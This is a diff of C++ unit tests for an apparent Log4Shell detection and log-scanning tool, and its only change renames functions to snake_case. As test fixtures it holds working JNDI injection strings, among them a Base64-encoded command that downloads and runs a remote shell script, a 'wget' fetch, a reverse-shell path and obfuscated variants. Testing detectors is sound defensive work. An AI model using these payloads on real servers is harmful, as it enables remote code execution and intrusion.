@@ -10,7 +10,7 @@ namespace l4s::hunt {
 namespace {
 
 TEST(DetectionTest, PlainAttempt) {
-  auto d = ExamineLine(
+  auto d = examine_line(
       "45.137.21.9 - - [11/Dec/2021:10:00:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" "
       "\"${jndi:ldap://45.137.21.9:1389/Basic/Command/Base64/d2dldCBodHRwOi8vNjIuMjEwLjEzMC4yNTAvbGguc2g7Y2htb2QgK3ggbGguc2g7Li9saC5zaA==}\"");
   ASSERT_TRUE(d);
@@ -38,7 +38,7 @@ TEST(DetectionTest, EncodedAttempts) {
       {"GET /?q=$${jndi:ldap://x.example/a} ${nope}", "ldap://x.example/a"},
   };
   for (const Case& c : cases) {
-    auto d = ExamineLine(c.line);
+    auto d = examine_line(c.line);
     ASSERT_TRUE(d) << c.line;
     ASSERT_FALSE(d->jndi.empty()) << c.line;
     EXPECT_EQ(d->jndi[0].name, c.name) << c.line;
@@ -59,25 +59,25 @@ TEST(DetectionTest, NoFalseAlarms) {
            "escaped: $${jndi:ldap://x.example/a}",
            "export PATH=${PATH}:${HOME}/bin",
        }) {
-    EXPECT_FALSE(ExamineLine(line)) << line;
+    EXPECT_FALSE(examine_line(line)) << line;
   }
 }
 
 TEST(DetectionTest, Grades) {
-  EXPECT_EQ(ExamineLine("${jndi:ldap://127.0.0.1#evil.example:1389/a}")->severity, Severity::kCritical);
-  EXPECT_EQ(ExamineLine("${jndi:LDAP://x.example/a}")->severity, Severity::kMedium);  // non-functional scheme
-  auto dos = ExamineLine("${${::-${::-$${::-j}}}}");
+  EXPECT_EQ(examine_line("${jndi:ldap://127.0.0.1#evil.example:1389/a}")->severity, Severity::kCritical);
+  EXPECT_EQ(examine_line("${jndi:LDAP://x.example/a}")->severity, Severity::kMedium);  // non-functional scheme
+  auto dos = examine_line("${${::-${::-$${::-j}}}}");
   ASSERT_TRUE(dos);
   EXPECT_EQ(dos->verdict, Verdict::kDosOnly);
   EXPECT_EQ(dos->severity, Severity::kLow);
 }
 
 TEST(DetectionTest, ExploitCommand) {
-  EXPECT_EQ(DecodeExploitCommand("/Basic/Command/Base64/aWQ="), "id");
-  EXPECT_EQ(DecodeExploitCommand("/TomcatBypass/Command/base64/aWQ"), "id");
-  EXPECT_EQ(DecodeExploitCommand("/Basic/Command/Base64/Y2QgL3RtcDsgd2dldCBodHRwOi8veC9i"), "cd /tmp; wget http://x/b");
-  EXPECT_EQ(DecodeExploitCommand("/Basic/Command/Base64//aWQ="), "");  // JNDIExploit itself does not decode this
-  EXPECT_EQ(DecodeExploitCommand("/Basic/ReverseShell/1.2.3.4/4444"), "");
+  EXPECT_EQ(decode_exploit_command("/Basic/Command/Base64/aWQ="), "id");
+  EXPECT_EQ(decode_exploit_command("/TomcatBypass/Command/base64/aWQ"), "id");
+  EXPECT_EQ(decode_exploit_command("/Basic/Command/Base64/Y2QgL3RtcDsgd2dldCBodHRwOi8veC9i"), "cd /tmp; wget http://x/b");
+  EXPECT_EQ(decode_exploit_command("/Basic/Command/Base64//aWQ="), "");  // JNDIExploit itself does not decode this
+  EXPECT_EQ(decode_exploit_command("/Basic/ReverseShell/1.2.3.4/4444"), "");
 }
 
 TEST(DetectionTest, ScanBlockPositions) {
@@ -88,7 +88,7 @@ TEST(DetectionTest, ScanBlockPositions) {
       "${jenkins.url}\n"
       "last ${jndi:rmi://y.example/b}";
   std::vector<Detection> found;
-  uint64_t lines = ScanBlock(block, 1000, 41, [&](Detection&& d) { found.push_back(std::move(d)); });
+  uint64_t lines = scan_block(block, 1000, 41, [&](Detection&& d) { found.push_back(std::move(d)); });
   EXPECT_EQ(lines, 5u);
   ASSERT_EQ(found.size(), 2u);
   EXPECT_EQ(found[0].line, 43u);
@@ -107,7 +107,7 @@ TEST(DetectionTest, VeryLongLinesAreExaminedInWindows) {
   std::string block = "first\n" + filler + "${jndi:ldap://mid.example/a} " + filler + encoded + " " + filler +
                       "${jndi:dns://tail.example/x}\nnext ${jndi:ldap://next.example/b}\n";
   std::vector<Detection> found;
-  uint64_t lines = ScanBlock(block, 0, 1, [&](Detection&& d) { found.push_back(std::move(d)); });
+  uint64_t lines = scan_block(block, 0, 1, [&](Detection&& d) { found.push_back(std::move(d)); });
   EXPECT_EQ(lines, 3u);
   std::vector<std::string> hosts;
   for (const Detection& d : found) {
@@ -122,7 +122,7 @@ TEST(DetectionTest, VeryLongLinesAreExaminedInWindows) {
 TEST(DetectionTest, PlainPlaceholderLinesAreSkippedOnlyWhenInert) {
   auto scan = [](const std::string& block, const LookupEnvironment& env = {}) {
     std::vector<Detection> found;
-    ScanBlock(block, 0, 1, [&](Detection&& d) { found.push_back(std::move(d)); }, env);
+    scan_block(block, 0, 1, [&](Detection&& d) { found.push_back(std::move(d)); }, env);
     return found;
   };
   EXPECT_TRUE(scan("build ${BUILD_NUMBER} of ${JOB_NAME} ${project.version} $${x} ${a-b_c.d}\n").empty());
@@ -160,7 +160,7 @@ TEST(DetectionTest, CorelightNoticeLog) {
     ASSERT_NE(h, std::string::npos);
     std::string value = line.substr(v + 14, line.find("'", v + 14) - v - 14);
     std::string host = line.substr(h + 13, line.find(',', h) - h - 13);
-    auto d = ExamineLine(value);
+    auto d = examine_line(value);
     ASSERT_TRUE(d) << value;
     bool found = false;
     for (const JndiTarget& t : d->jndi) found |= t.host == host;
